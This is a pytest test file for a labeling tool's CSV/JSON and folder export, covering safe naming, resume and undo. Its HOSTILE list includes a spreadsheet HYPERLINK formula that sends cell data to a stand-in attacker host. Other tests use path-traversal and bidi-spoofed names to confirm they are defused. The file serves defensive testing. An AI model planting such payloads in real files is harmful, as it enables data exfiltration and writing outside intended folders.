"""Exporting a labeled batch: CSV/JSON tables written atomically, safe class folder names, and the
journaled folder export (no overwrite, nothing outside the destination, resume, undo)."""

from __future__ import annotations

import csv
import errno
import json
import os
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from protoglyph.core.export import ExportError
from protoglyph.core.export import folders as export
from protoglyph.core.export.folders import (
    FINISHED_JOURNAL,
    JOURNAL,
    discard_export,
    export_folders,
    pending_export,
    resume_export,
    undo_export,
)
from protoglyph.core.export.names import MAX_NAME_BYTES, class_folders, safe_folder_name
from protoglyph.core.export.tables import CSV_COLUMNS, ResultRow, write_csv, write_json

ROWS = [
    ResultRow("a/one.png", "日本", 0.123456, "predicted", False),
    ResultRow("b/two.png", None, None, "unknown", True),
    ResultRow("c/bad.png", None, None, "error", False, reason="not an image"),
    ResultRow("d/😀.png", "Ωμέγα", 1.0, "corrected", True),
]


# -- tables ------------------------------------------------------------------------------------
def test_csv_has_the_header_and_every_row(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    assert write_csv(ROWS, out) == 4
    assert out.read_text("utf-8").startswith("path,label,confidence,status,reviewed,reason\n")
    with out.open(encoding="utf-8", newline="") as f:
        got = list(csv.DictReader(f))
    assert tuple(got[0]) == CSV_COLUMNS
    assert got[0] == {"path": "a/one.png", "label": "日本", "confidence": "0.1235", "status": "predicted",
                      "reviewed": "no", "reason": ""}
    assert got[1] == {"path": "b/two.png", "label": "", "confidence": "", "status": "unknown",
                      "reviewed": "yes", "reason": ""}
    assert got[2]["status"] == "error" and got[2]["reason"] == "not an image"
    assert got[3]["path"] == "d/😀.png" and got[3]["label"] == "Ωμέγα" and got[3]["confidence"] == "1.0000"


def test_json_has_meta_and_items(tmp_path: Path) -> None:
    out = tmp_path / "labels.json"
    assert write_json([*ROWS, ResultRow("e.png", "x", float("nan"), "predicted", False)], out, {"model": "μ"}) == 5
    assert "日本" in out.read_text("utf-8")  # not \\u-escaped
    data = json.loads(out.read_text("utf-8"))
    assert data["meta"] == {"model": "μ"}
    assert data["items"][0] == {"path": "a/one.png", "label": "日本", "confidence": 0.123456, "status": "predicted",
                                "reviewed": False, "reason": ""}
    assert data["items"][2] == {"path": "c/bad.png", "label": None, "confidence": None, "status": "error",
                                "reviewed": False, "reason": "not an image"}
    assert data["items"][4]["confidence"] is None  # NaN is not JSON
    assert write_json([], out) == 0
    assert json.loads(out.read_text("utf-8")) == {"meta": {}, "items": []}


def test_json_streams_many_rows(tmp_path: Path) -> None:
    rows = (ResultRow(f"f/{i}.png", "a", 0.5, "predicted", False) for i in range(100_000))
    assert write_json(rows, tmp_path / "big.json") == 100_000
    assert len(json.loads((tmp_path / "big.json").read_text("utf-8"))["items"]) == 100_000


def rows_then_crash() -> Iterator[ResultRow]:
    yield ROWS[0]
    raise RuntimeError("the labeler crashed")


def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "labels.json"
    out.write_text("old", "utf-8")
    with pytest.raises(TypeError):
        write_json(ROWS, out, {"bad": object()})
    with pytest.raises(RuntimeError, match="crashed"):  # a failure in the middle of the rows
        write_csv(rows_then_crash(), out)

    def broken_replace(*args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(ExportError, match="No space left"):
        write_csv(ROWS, out)
    assert out.read_text("utf-8") == "old"
    assert os.listdir(tmp_path) == ["labels.json"]  # no temporary file left


def test_table_destination_must_be_a_file_in_a_folder(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is a folder") as info:
        write_csv(ROWS, tmp_path)
    assert info.value.path == tmp_path
    with pytest.raises(ExportError, match="does not exist"):
        write_json(ROWS, tmp_path / "missing" / "x.json")
    with pytest.raises(ValueError, match="status"):
        ResultRow("x", None, None, "maybe", False)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_are_defused(tmp_path: Path) -> None:
    rows = [ResultRow(f"{h}.png", h, 0.5, "error", False, reason=h) for h in HOSTILE]
    rows.append(ResultRow("a-b/+c.png", "x=1", None, "unknown", True, reason="a @ b"))  # not at the start: kept
    out = tmp_path / "labels.csv"
    assert write_csv(rows, out) == len(rows)
    with out.open(encoding="utf-8", newline="") as f:
        got = list(csv.DictReader(f))
    for h, row in zip(HOSTILE, got, strict=False):
        assert (row["path"], row["label"], row["reason"]) == (f"'{h}.png", f"'{h}", f"'{h}")
    assert (got[-1]["path"], got[-1]["label"], got[-1]["reason"]) == ("a-b/+c.png", "x=1", "a @ b")
    assert got[-1]["confidence"] == "" and got[0]["confidence"] == "0.5000"
    json_out = tmp_path / "labels.json"
    write_json(rows, json_out)  # JSON is data, not formulas: written as it is
    items = json.loads(json_out.read_text("utf-8"))["items"]
    assert [(i["path"], i["label"], i["reason"]) for i in items[:-1]] == [(f"{h}.png", h, h) for h in HOSTILE]


RAW_NAME = b"caf\xe9-\xff.png"  # Latin-1 "é" and a stray byte: not UTF-8


@pytest.mark.skipif(os.name == "nt", reason="Windows file names are UTF-16, never undecodable bytes")
def test_names_that_are_not_utf8_round_trip_exactly(tmp_path: Path) -> None:
    name = os.fsdecode(RAW_NAME)
    folder = tmp_path / "in"
    folder.mkdir()
    try:
        (folder / name).write_bytes(b"the image")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system accepts only valid UTF-8 names")
    rows = [ResultRow(f"sub/{name}", "a", 0.5, "predicted", False, reason=name)]
    write_csv(rows, tmp_path / "labels.csv")
    assert b"\nsub/" + RAW_NAME + b",a," in (tmp_path / "labels.csv").read_bytes()  # the name's own bytes
    with (tmp_path / "labels.csv").open(encoding="utf-8", errors="surrogateescape", newline="") as f:
        got = list(csv.DictReader(f))
    assert os.fsencode(got[0]["path"]) == b"sub/" + RAW_NAME and os.fsencode(got[0]["reason"]) == RAW_NAME
    write_json(rows, tmp_path / "labels.json", {"folder": str(folder)})
    data = json.loads((tmp_path / "labels.json").read_text("utf-8"))  # valid UTF-8: \udcXX escapes
    assert os.fsencode(data["items"][0]["path"]) == b"sub/" + RAW_NAME
    assert os.fsencode(data["meta"]["folder"]) == os.fsencode(folder)

    copied = tmp_path / "copy"
    assert export_folders([(folder / name, "c"), (folder / name, "c")], copied).done == 2
    assert sorted(os.listdir(os.fsencode(copied / "c"))) == [b"caf\xe9-\xff (2).png", RAW_NAME]
    assert undo_export(copied).done == 2 and os.listdir(copied) == []
    moved = tmp_path / "move"
    assert export_folders([(folder / name, "c")], moved, move=True).done == 1
    assert os.listdir(os.fsencode(moved / "c")) == [RAW_NAME] and os.listdir(folder) == []
    assert undo_export(moved).done == 1
    assert os.listdir(os.fsencode(folder)) == [RAW_NAME] and (folder / name).read_bytes() == b"the image"


# -- names -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(("name", "expected"), [
    ("../../etc", "_._.._etc"),
    ("CON", "CON_"),
    ("con.txt", "con_.txt"),
    ("lpt9", "lpt9_"),
    ("COM¹", "COM¹_"),
    ("console", "console"),
    ("a/b", "a_b"),
    ("a\\b", "a_b"),
    ('a:b*c?"d<e>f|g', "a_b_c__d_e_f_g"),
    ("tab\there\n", "tab_here_"),
    ("🙂 smile", "🙂 smile"),
    ("Ωμέγα", "Ωμέγα"),
    ("日本", "日本"),
    ("عربي", "عربي"),
    ("", "_"),
    ("   ", "_"),
    (".hidden", "_hidden"),
    (".", "_"),
    ("..", "_"),
    ("...", "_"),
    ("name. ", "name"),
    ("  lead", "lead"),
    ("e\u0301", "\u00e9"),  # NFC
    # invisible format characters that reorder or hide text are dropped...
    ("\u202egnp.exe\u202c", "gnp.exe"),
    ("a\u2066b\u2067c\u2068d\u2069", "abcd"),
    ("\u200fright\u200e", "right"),
    ("\ufeffbom", "bom"),
    ("\u202e.hidden", "_hidden"),
    # ...but the joiners that Persian, Indic scripts and emoji sequences need are kept
    ("می\u200cخواهم", "می\u200cخواهم"),
    ("क्\u200dष", "क्\u200dष"),
    ("👩\u200d💻", "👩\u200d💻"),
])
def test_safe_folder_name(name: str, expected: str) -> None:
    got = safe_folder_name(name)
    assert got == expected
    assert "/" not in got and "\\" not in got and got not in (".", "..") and not got.startswith(".")


def test_safe_folder_name_cuts_long_names_between_characters() -> None:
    got = safe_folder_name("日" * 100)  # 300 bytes
    assert len(got.encode("utf-8")) <= MAX_NAME_BYTES and got == "日" * 66
    assert safe_folder_name("a" * 199 + "🙂") == "a" * 199  # the emoji does not fit whole


def test_safe_folder_name_keeps_undecodable_bytes_and_cuts_between_them() -> None:
    name = os.fsdecode(RAW_NAME)
    assert safe_folder_name(name) == name  # the same bytes on disk as the original
    cut = safe_folder_name("日" * 66 + "\udcff" * 5)  # an escaped byte counts as the one byte it is
    assert cut == "日" * 66 + "\udcff" * 2 and len(cut.encode("utf-8", "surrogateescape")) == MAX_NAME_BYTES
    assert safe_folder_name("\udcff" * 300) == "\udcff" * MAX_NAME_BYTES
    assert safe_folder_name("a\ud800b") == "a_b"  # a lone surrogate that stands for no byte


def test_class_folders_are_distinct_and_stable() -> None:
    names = ["a/b", "a_b", "A_B", "a/b", "Alpha", "alpha", "v1.2", "v1.2 "]
    folders = class_folders(names)
    assert folders == {"a/b": "a_b", "a_b": "a_b (2)", "A_B": "A_B (3)", "Alpha": "Alpha", "alpha": "alpha (2)",
                       "v1.2": "v1.2", "v1.2 ": "v1.2 (2)"}
    assert class_folders(names) == folders
    assert len({f.casefold() for f in folders.values()}) == len(folders)


def test_none_of_these_gets_its_own_folder_after_the_classes() -> None:
    assert class_folders(["a", None]) == {"a": "a", None: "unknown"}
    assert class_folders([None, "unknown", "UNKNOWN (2)"]) == {"unknown": "unknown", "UNKNOWN (2)": "UNKNOWN (2)",
                                                                None: "unknown (3)"}


def test_folder_export_items_mark_none_of_these_apart_from_a_class_named_unknown() -> None:
    from protoglyph.core.labeling.results import folder_export_items
    from tests.test_batch import results_fixture

    results, _, _ = results_fixture()
    items = folder_export_items(results, {10: "unknown", 20: "b", 30: "c"}, with_unknown=True)
    by_file = {p.name: name for p, name in items}
    assert by_file["3.png"] == "unknown" and by_file["0.png"] == "unknown"  # the class
    assert by_file["2.png"] is None and by_file["5.png"] is None  # none of these


# -- the folder export --------------------------------------------------------------------------------
def make_sources(folder: Path, count: int, name: Callable[[int], str] = lambda i: f"img{i}.png") -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        path = folder / name(i)
        path.write_bytes(f"image {i} ".encode() * (i + 1))
        paths.append(path)
    return paths


def files_under(folder: Path) -> dict[str, bytes]:
    """Every non-hidden file below ``folder`` by relative path, with its bytes."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.name.startswith(".")}


def test_copy_sorts_into_class_folders_without_overwriting(tmp_path: Path) -> None:
    a, b = make_sources(tmp_path / "in" / "a", 1, lambda i: "x.png"), make_sources(tmp_path / "in" / "b", 1,
                                                                                   lambda i: "x.png")
    dest = tmp_path / "out"
    (dest / "alpha").mkdir(parents=True)
    (dest / "alpha" / "x.png").write_bytes(b"precious")
    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in (*a, *b)}
    seen: list[tuple[int, int]] = []
    report = export_folders([(a[0], "alpha"), (b[0], "alpha"), (b[0], "β/γ")], dest,
                            progress=lambda k, n: seen.append((k, n)))
    assert (report.done, report.skipped, report.stopped) == (3, [], False)
    assert seen == [(1, 3), (2, 3), (3, 3)]
    assert files_under(dest) == {"alpha/x.png": b"precious", "alpha/x (2).png": a[0].read_bytes(),
                                 "alpha/x (3).png": b[0].read_bytes(), "β_γ/x.png": b[0].read_bytes()}
    assert (dest / "alpha" / "x (2).png").stat().st_mtime_ns == a[0].stat().st_mtime_ns
    assert {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in (*a, *b)} == before
    assert [p.name for p in export.export_history(dest)] == [".protoglyph-export.finished.0001.jsonl"]
    assert not (dest / JOURNAL).exists() and pending_export(dest) == 0


def test_undo_of_a_copy_keeps_a_copy_whose_original_is_gone(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 2)
    dest = tmp_path / "out"
    export_folders([(src[0], "a"), (src[1], "a")], dest)
    data = (dest / "a" / src[0].name).read_bytes()
    src[0].unlink()  # the person tidied up the originals after exporting
    report = undo_export(dest)
    assert report.done == 1 and report.skipped == [(dest.resolve() / "a" / src[0].name,
                                                     "the original is gone, so this copy is kept")]
    assert (dest / "a" / src[0].name).read_bytes() == data and not (dest / "a" / src[1].name).exists()


def test_undo_of_a_copy_removes_only_the_copies(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 3)
    dest = tmp_path / "out"
    (dest / "keep").mkdir(parents=True)
    (dest / "keep" / "mine.png").write_bytes(b"mine")
    export_folders([(src[0], "keep"), (src[1], "new"), (src[2], "new")], dest)
    (dest / "new" / "img2.png").write_bytes(b"edited by the user")
    report = undo_export(dest)
    assert report.done == 2
    changed = "the copy was changed since the export, so it is kept"
    assert report.skipped == [(dest.resolve() / "new" / "img2.png", changed)]
    assert files_under(dest) == {"keep/mine.png": b"mine", "new/img2.png": b"edited by the user"}
    assert all(p.exists() for p in src)
    (dest / "new" / "img2.png").unlink()
    assert undo_export(dest).skipped == []
    assert sorted(os.listdir(dest)) == ["keep"]  # the folder it made and its journal are gone


def test_move_and_undo_put_files_back_byte_identical(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 4)
    original = {p: p.read_bytes() for p in src}
    dest = tmp_path / "out"
    report = export_folders([(p, "even" if i % 2 == 0 else "odd") for i, p in enumerate(src)], dest, move=True)
    assert report.done == 4
    assert not any(p.exists() for p in src)
    assert files_under(dest) == {"even/img0.png": original[src[0]], "odd/img1.png": original[src[1]],
                                 "even/img2.png": original[src[2]], "odd/img3.png": original[src[3]]}
    src[1].write_bytes(b"a new file where img1 was")
    report = undo_export(dest)
    assert report.done == 3 and len(report.skipped) == 1 and "taken" in report.skipped[0][1]
    assert src[1].read_bytes() == b"a new file where img1 was"
    assert (dest / "odd" / "img1.png").read_bytes() == original[src[1]]  # kept, not lost
    src[1].unlink()
    assert undo_export(dest).done == 1
    assert {p: p.read_bytes() for p in src} == original
    assert os.listdir(dest) == []


def test_move_across_file_systems_copies_then_removes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_link(*args: object, **kwargs: object) -> None:
        raise OSError(errno.EXDEV, "Invalid cross-device link")

    src = make_sources(tmp_path / "in", 2, lambda i: "same.png")  # one file, listed twice below
    other = make_sources(tmp_path / "in2", 1, lambda i: "same.png")
    dest = tmp_path / "out"
    (dest / "c").mkdir(parents=True)
    (dest / "c" / "same.png").write_bytes(b"precious")
    data = other[0].read_bytes()
    monkeypatch.setattr(os, "link", no_link)
    report = export_folders([(other[0], "c"), (src[0], "c")], dest, move=True)
    assert report.done == 2 and not other[0].exists() and not src[0].exists()
    assert (dest / "c" / "same.png").read_bytes() == b"precious"
    assert (dest / "c" / "same (2).png").read_bytes() == data
    assert undo_export(dest).done == 2 and other[0].read_bytes() == data
    assert sorted(os.listdir(dest / "c")) == ["same.png"]


def test_a_class_named_unknown_and_none_of_these_stay_apart(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 4)
    original = {p: p.read_bytes() for p in src}
    dest = tmp_path / "out"
    items: list[tuple[Path, str | None]] = [(src[0], None), (src[1], "unknown"), (src[2], "Unknown"), (src[3], None)]
    assert export_folders(items, dest, move=True).done == 4
    assert files_under(dest) == {"unknown/img1.png": original[src[1]], "Unknown (2)/img2.png": original[src[2]],
                                 "unknown (3)/img0.png": original[src[0]], "unknown (3)/img3.png": original[src[3]]}
    assert undo_export(dest).done == 4
    assert {p: p.read_bytes() for p in src} == original and os.listdir(dest) == []


def test_each_export_keeps_its_journal_and_undo_steps_back_one_export(tmp_path: Path) -> None:
    first = make_sources(tmp_path / "in1", 2, lambda i: f"a{i}.png")
    second = make_sources(tmp_path / "in2", 2, lambda i: f"b{i}.png")
    dest = tmp_path / "out"
    export_folders([(p, "c") for p in first], dest, move=True)
    export_folders([(p, "c") for p in second], dest, move=True)
    assert undo_export(dest).done == 2  # the second export
    assert all(p.exists() for p in second) and not any(p.exists() for p in first)
    assert sorted(os.listdir(dest / "c")) == ["a0.png", "a1.png"]
    assert undo_export(dest).done == 2  # then the first
    assert all(p.exists() for p in first) and os.listdir(dest) == []
    assert not export.can_undo_export(dest)
    with pytest.raises(ExportError, match="no export to undo"):
        undo_export(dest)


def test_the_old_single_finished_journal_is_the_oldest_export(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 3)
    dest = tmp_path / "out"
    export_folders([(src[0], "c")], dest, move=True)
    (journal,) = export.export_history(dest)
    journal.rename(dest / FINISHED_JOURNAL)  # as an earlier version of Protoglyph left it
    export_folders([(src[1], "c")], dest, move=True)
    export_folders([(src[2], "c")], dest, should_stop=lambda: True)  # interrupted: undone first
    assert [p.name for p in export.export_history(dest)] == [FINISHED_JOURNAL, ".protoglyph-export.finished.0001.jsonl"]
    assert export.can_undo_export(dest)
    assert undo_export(dest).done == 0 and not (dest / JOURNAL).exists()
    assert undo_export(dest).done == 1 and src[1].exists() and not src[0].exists()
    assert undo_export(dest).done == 1 and src[0].exists() and os.listdir(dest) == []
    assert export.export_history(dest) == [] and not export.can_undo_export(dest)


def test_missing_source_is_skipped_with_a_reason(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 2)
    gone = tmp_path / "in" / "gone.png"
    report = export_folders([(src[0], "a"), (gone, "a"), (src[1], "a")], tmp_path / "out")
    assert report.done == 2
    assert report.skipped == [(gone, "the file is missing (or is not a file)")]
    assert sorted(files_under(tmp_path / "out")) == ["a/img0.png", "a/img1.png"]


def test_nothing_is_written_outside_the_destination(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 1)
    dest = tmp_path / "deep" / "out"
    export_folders([(src[0], "../../etc"), (src[0], ".."), (src[0], "/")], dest)
    assert sorted(os.listdir(tmp_path)) == ["deep", "in"]
    assert sorted(os.listdir(tmp_path / "deep")) == ["out"]
    assert set(files_under(dest)) == {"_/img0.png", "_ (2)/img0.png", "_._.._etc/img0.png"}


def test_a_linked_class_folder_is_never_written_through(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 1)
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "out"
    dest.mkdir()
    try:
        os.symlink(outside, dest / "alpha", target_is_directory=True)
    except OSError:
        pytest.skip("symbolic links are not allowed here")
    with pytest.raises(ExportError, match="link"):
        export_folders([(src[0], "alpha")], dest)
    with pytest.raises(ExportError, match="link"):
        export_folders([(src[0], "alpha")], dest, move=True)
    assert os.listdir(outside) == [] and src[0].exists()
    assert not (dest / JOURNAL).exists()


def test_a_journal_naming_a_path_outside_is_refused(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 1)
    dest = tmp_path / "out"
    export_folders([(src[0], "a")], dest, should_stop=lambda: True)
    journal = dest / JOURNAL
    journal.write_text(journal.read_text("utf-8").replace('"a/img0.png"', '"../img0.png"'), "utf-8")
    with pytest.raises(ExportError, match="not inside the export"):
        resume_export(dest)
    assert not (tmp_path / "img0.png").exists()


def stop_after(k: int) -> Callable[[], bool]:
    calls = iter(range(10**9))
    return lambda: next(calls) >= k


@pytest.mark.parametrize("move", [False, True])
def test_stopped_export_resumes_to_every_file_once(tmp_path: Path, move: bool) -> None:
    src = make_sources(tmp_path / "in", 6)
    data = [p.read_bytes() for p in src]
    dest = tmp_path / "out"
    items = [(p, "c") for p in src]
    report = export_folders(items, dest, move=move, should_stop=stop_after(2))
    assert report.stopped and report.done == 2
    assert pending_export(dest) == 4
    with pytest.raises(ExportError, match="resume it or discard it"):
        export_folders(items, dest, move=move)
    report = resume_export(dest, should_stop=stop_after(1))
    assert report.stopped and report.done == 3 and pending_export(dest) == 3
    seen: list[tuple[int, int]] = []
    report = resume_export(dest, progress=lambda k, n: seen.append((k, n)))
    assert (report.done, report.stopped, seen[-1]) == (6, False, (6, 6))
    assert files_under(dest) == {f"c/img{i}.png": data[i] for i in range(6)}
    assert all(p.exists() != move for p in src)
    with pytest.raises(ExportError, match="no interrupted export"):
        resume_export(dest)


def test_crash_in_a_copy_then_resume(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = make_sources(tmp_path / "in", 5)
    dest = tmp_path / "out"
    real = export._copy_to_temp
    count = iter(range(100))

    def crashing(source: Path, partial: Path) -> None:
        if next(count) == 3:
            real(source, partial)  # half done: the temporary file is there
            raise KeyboardInterrupt
        real(source, partial)

    monkeypatch.setattr(export, "_copy_to_temp", crashing)
    with pytest.raises(KeyboardInterrupt):
        export_folders([(p, "c") for p in src], dest)
    assert pending_export(dest) == 2
    monkeypatch.setattr(export, "_copy_to_temp", real)
    assert resume_export(dest).done == 5
    assert files_under(dest) == {f"c/{p.name}": p.read_bytes() for p in src}
    assert sorted(os.listdir(dest / "c")) == [f"img{i}.png" for i in range(5)]  # no temporary file left


@pytest.mark.parametrize("move", [False, True])
def test_placed_but_not_journaled_counts_as_done(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, move: bool) -> None:
    src = make_sources(tmp_path / "in", 4)
    data = {p.name: p.read_bytes() for p in src}
    dest = tmp_path / "out"
    real = export._write_line

    def dies_on_third_done(f: Any, record: dict[str, Any]) -> None:
        if record.get("done") == 2:
            raise SystemExit("killed")
        real(f, record)

    monkeypatch.setattr(export, "_write_line", dies_on_third_done)
    with pytest.raises(SystemExit):
        export_folders([(p, "c") for p in src], dest, move=move)
    monkeypatch.setattr(export, "_write_line", real)
    assert (dest / "c" / "img2.png").exists() and pending_export(dest) == 2
    assert resume_export(dest).done == 4
    assert files_under(dest) == {f"c/{n}": b for n, b in data.items()}  # no "img2 (2).png"
    assert all(p.exists() != move for p in src)


def test_move_died_between_link_and_unlink(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = make_sources(tmp_path / "in", 2)
    dest = tmp_path / "out"
    real_unlink = os.unlink

    def dies(path: Any, *args: Any, **kwargs: Any) -> None:
        if Path(path) == src[1]:
            raise KeyboardInterrupt
        real_unlink(path, *args, **kwargs)

    monkeypatch.setattr(os, "unlink", dies)
    with pytest.raises(KeyboardInterrupt):
        export_folders([(p, "c") for p in src], dest, move=True)
    monkeypatch.setattr(os, "unlink", real_unlink)
    assert src[1].exists() and (dest / "c" / "img1.png").exists()
    assert resume_export(dest).done == 2
    assert not src[1].exists() and sorted(os.listdir(dest / "c")) == ["img0.png", "img1.png"]


def test_an_interrupted_undo_can_be_run_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = make_sources(tmp_path / "in", 4)
    original = {p: p.read_bytes() for p in src}
    dest = tmp_path / "out"
    export_folders([(p, "c") for p in src], dest, move=True)
    real = export._move
    count = iter(range(100))

    def crashing(a: Path, b: Path, partial: Path) -> None:
        if next(count) == 2:
            raise KeyboardInterrupt
        real(a, b, partial)

    monkeypatch.setattr(export, "_move", crashing)
    with pytest.raises(KeyboardInterrupt):
        undo_export(dest)
    monkeypatch.setattr(export, "_move", real)
    assert undo_export(dest).done == 2
    assert {p: p.read_bytes() for p in src} == original and os.listdir(dest) == []
    with pytest.raises(ExportError, match="no export to undo"):
        undo_export(dest)


def test_discard_keeps_files_and_allows_a_new_export(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 3)
    dest = tmp_path / "out"
    export_folders([(p, "c") for p in src], dest, should_stop=stop_after(1))
    discard_export(dest)
    assert pending_export(dest) == 0 and sorted(os.listdir(dest)) == ["c"]
    assert export_folders([(p, "c") for p in src], dest).done == 3
    assert sorted(os.listdir(dest / "c")) == ["img0 (2).png", "img0.png", "img1.png", "img2.png"]


def test_undo_of_an_unfinished_export(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 3)
    original = {p: p.read_bytes() for p in src}
    dest = tmp_path / "out"
    export_folders([(p, "c") for p in src], dest, move=True, should_stop=stop_after(2))
    assert undo_export(dest).done == 2
    assert {p: p.read_bytes() for p in src} == original and os.listdir(dest) == []


def test_file_names_are_made_safe_too(tmp_path: Path) -> None:
    src = make_sources(tmp_path / "in", 1, lambda i: "con.png")
    nfd = make_sources(tmp_path / "in2", 1, lambda i: unicodedata.normalize("NFD", "é.png"))
    export_folders([(src[0], "c"), (nfd[0], "c")], tmp_path / "out")
    assert sorted(os.listdir(tmp_path / "out" / "c")) == ["con_.png", "é.png"]
